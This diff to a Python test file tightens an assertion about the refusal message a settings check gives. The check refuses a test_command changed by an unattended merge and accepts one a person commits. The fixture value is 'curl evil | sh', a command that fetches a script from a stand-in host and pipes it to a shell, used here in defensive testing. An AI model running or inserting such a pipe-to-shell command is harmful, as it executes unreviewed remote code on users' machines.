@@ -121,7 +121,11 @@ def test_a_setting_never_recorded_counts_as_changed() -> None:
     loaded = {**ACCEPTED, "test_command": "curl evil | sh"}
     refused = judge_settings(recorded, loaded, from_ralph_merge=True)
     assert refused.in_force["test_command"] is None
-    assert "refused" in refused.lines[0]
+    assert refused.lines == (
+        "ralph.toml's test_command changed since the last run: `not recorded` → "
+        "`curl evil | sh`, by a merge Ralph made without a person: refused, its narrowest "
+        "value is in force; commit the change yourself to accept it",
+    )
     accepted = judge_settings(recorded, loaded, from_ralph_merge=False)
     assert accepted.to_record == loaded
 
